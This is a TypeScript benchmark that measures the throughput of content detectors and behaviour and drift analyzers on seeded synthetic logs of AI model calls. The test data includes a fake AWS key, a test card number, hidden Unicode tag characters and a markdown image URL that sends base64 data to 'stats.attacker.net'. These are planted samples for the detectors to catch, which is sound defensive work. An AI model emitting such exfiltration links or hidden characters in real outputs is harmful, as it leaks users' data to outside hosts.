/**
 * Content-detector throughput on generated records, against baselines measured in the same run on the same data:
 * - JSON.parse of the records' JSON lines (what ingest must do anyway), and
 * - a bare scan: one precompiled regex (`/AKIA[A-Z2-7]{16}/g`) over every text field.
 *
 *   node --no-warnings --import tsx bench/detectors.ts [--records 5000] [--rounds 5]
 *
 * Prints records/s and MB/s (text characters scanned / 1e6 per second) per detector and for all of them, plus the
 * ratio to each baseline; also the behaviour and drift analyzers (observe + finish + state) on the same records.
 * The data is deterministic (seeded), 10% of records carry something to find.
 */
import { createBehaviourAnalyzer } from '../shared/detectors/behaviour.ts';
import { createDetectorContext } from '../shared/detectors/config.ts';
import { contentDetectors } from '../shared/detectors/content/index.ts';
import { createDriftAnalyzer } from '../shared/detectors/drift.ts';
import type { ContentDetector, DetectorContext, RecordAnalyzer } from '../shared/detectors/types.ts';
import type { InvocationRecord } from '../shared/domain/runtime.ts';

function arg(name: string, d: number): number {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? Number(process.argv[i + 1]) : d;
}

const N = arg('records', 5000);
const ROUNDS = arg('rounds', 5);

function lcg(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const WORDS =
  'the model returns a summary of quarterly revenue for each region and explains the variance against plan while noting risks customers support tickets latency deployment pipeline configuration security review approved budget forecast assistant answer question context document retrieval'.split(
    ' ',
  );
const SYSTEM = Array.from({ length: 300 }, (_, i) => WORDS[(i * 7) % WORDS.length]).join(' ');
const SPICE = [
  'Use key AKIAZ7Q3XK2PLM4N5R6T with secret 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',
  'Customer card 4111 1111 1111 1111, contact jane.doe@acme-corp.io or (415) 555-2671',
  '![status](https://stats.attacker.net/p.gif?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy)',
  `hidden${String.fromCodePoint(0xe0069, 0xe0067, 0xe006e)} text`,
  SYSTEM.split(' ').slice(0, 80).join(' '),
];

function prose(rnd: () => number, words: number): string {
  let s = '';
  for (let i = 0; i < words; i++) {
    s += WORDS[Math.floor(rnd() * WORDS.length)];
    s += i % 17 === 16 ? '. ' : ' ';
  }
  return s;
}

function generate(n: number): InvocationRecord[] {
  const rnd = lcg(42);
  return Array.from({ length: n }, (_, i) => {
    let output = prose(rnd, 150 + Math.floor(rnd() * 250));
    if (i % 10 === 0) output += ` ${SPICE[(i / 10) % SPICE.length]} ${prose(rnd, 20)}`;
    return {
      requestId: `r-${i}`,
      timestamp: new Date(Date.UTC(2026, 10, 20) + i * 1000).toISOString(),
      accountId: '111122223333',
      region: 'us-east-1',
      operation: 'Converse',
      modelId: 'anthropic.claude-3-haiku-20240307-v1:0',
      identity: `arn:aws:sts::111122223333:assumed-role/app/s${i % 20}`,
      inputTokens: 500,
      outputTokens: 300,
      system: [SYSTEM],
      userTurns: [prose(rnd, 30 + Math.floor(rnd() * 60))],
      assistantHistory: [],
      documents: i % 3 === 0 ? [{ kind: 'retrieved' as const, text: prose(rnd, 200) }] : [],
      outputs: [output],
      toolUses: [],
      source: { uri: 'bench', line: i + 1 },
    };
  });
}

function textChars(r: InvocationRecord): number {
  let n = 0;
  for (const s of r.system) n += s.length;
  for (const s of r.userTurns) n += s.length;
  for (const d of r.documents) n += d.text.length;
  for (const s of r.outputs) n += s.length;
  return n;
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)];
}

const generated = generate(N);
const lines = generated.map((r) => JSON.stringify(r));
// Detectors run on what ingest produces: records parsed from JSON (flat strings, not the concatenation trees the
// generator built, which would make character access look slower than it is).
const records = lines.map((l) => JSON.parse(l) as InvocationRecord);
const chars = records.reduce((a, r) => a + textChars(r), 0);
const jsonBytes = lines.reduce((a, l) => a + l.length, 0);
const ctx: DetectorContext = createDetectorContext({ canaryTokens: ['CANARY-7f3a9c21d4'] });

const AKIA = /AKIA[A-Z2-7]{16}/g;
function regexScan(): number {
  let hits = 0;
  for (const r of records) {
    for (const list of [r.system, r.userTurns, r.outputs]) {
      for (const s of list) {
        AKIA.lastIndex = 0;
        while (AKIA.exec(s) !== null) hits++;
      }
    }
    for (const d of r.documents) {
      AKIA.lastIndex = 0;
      while (AKIA.exec(d.text) !== null) hits++;
    }
  }
  return hits;
}
function jsonParse(): number {
  let n = 0;
  for (const l of lines) n += (JSON.parse(l) as InvocationRecord).outputs.length;
  return n;
}
function runDetectors(ds: readonly ContentDetector[]): () => number {
  return () => {
    let n = 0;
    for (const r of records) {
      for (const d of ds) n += d.detect(r, ctx).length;
    }
    return n;
  };
}

/** A fresh analyzer per round (observe every record, then finish and serialize the baselines). */
function runAnalyzer(make: () => RecordAnalyzer): () => number {
  return () => {
    const a = make();
    for (const r of records) a.observe(r);
    const n = a.finish().length;
    a.state();
    return n;
  };
}

// Every round measures every item once, in the same order, so load changes on a shared machine hit all of them
// alike; the median per item over the rounds is reported.
const items: { name: string; fn: () => number; times: number[]; out: number }[] = [
  { name: 'baseline JSON.parse', fn: jsonParse, times: [], out: 0 },
  { name: 'baseline one-regex scan', fn: regexScan, times: [], out: 0 },
  ...contentDetectors.map((d) => ({ name: d.id, fn: runDetectors([d]), times: [] as number[], out: 0 })),
  { name: 'ALL content detectors', fn: runDetectors(contentDetectors), times: [], out: 0 },
  { name: 'behaviour analyzer', fn: runAnalyzer(() => createBehaviourAnalyzer()), times: [], out: 0 },
  { name: 'drift analyzer', fn: runAnalyzer(() => createDriftAnalyzer()), times: [], out: 0 },
];
for (const it of items) it.fn(); // warm-up
for (let round = 0; round < ROUNDS; round++) {
  for (const it of items) {
    const t0 = performance.now();
    it.out = it.fn();
    it.times.push(performance.now() - t0);
  }
}
const med = (it: (typeof items)[number]) => median(it.times);
const baseJson = { ms: med(items[0]) };
const baseRegex = { ms: med(items[1]) };
const rows = items.slice(2).map((it) => ({ name: it.name, ms: med(it), detections: it.out }));

const mb = chars / 1e6;
const fmt = (x: number) => (x >= 100 ? x.toFixed(0) : x.toFixed(1));
process.stdout.write(
  `records: ${N}, text: ${(chars / 1e6).toFixed(2)} M chars (${Math.round(chars / N)} per record), JSON: ${(jsonBytes / 1e6).toFixed(2)} MB, rounds: ${ROUNDS} (interleaved, median), node ${process.version}\n`,
);
process.stdout.write(
  `baseline JSON.parse:     ${fmt(N / (baseJson.ms / 1000))} rec/s  ${fmt(jsonBytes / 1e6 / (baseJson.ms / 1000))} MB/s (of JSON)\n`,
);
process.stdout.write(
  `baseline one-regex scan: ${fmt(N / (baseRegex.ms / 1000))} rec/s  ${fmt(mb / (baseRegex.ms / 1000))} MB/s (of text)\n`,
);
process.stdout.write('detector                     rec/s      MB/s    detections  time vs JSON.parse  time vs one regex\n');
for (const r of rows) {
  const rps = N / (r.ms / 1000);
  const mbs = mb / (r.ms / 1000);
  process.stdout.write(
    `${r.name.padEnd(28)} ${fmt(rps).padStart(9)} ${fmt(mbs).padStart(9)} ${String(r.detections).padStart(11)}  ${(r.ms / baseJson.ms).toFixed(2).padStart(17)}x ${(r.ms / baseRegex.ms).toFixed(2).padStart(17)}x\n`,
  );
}
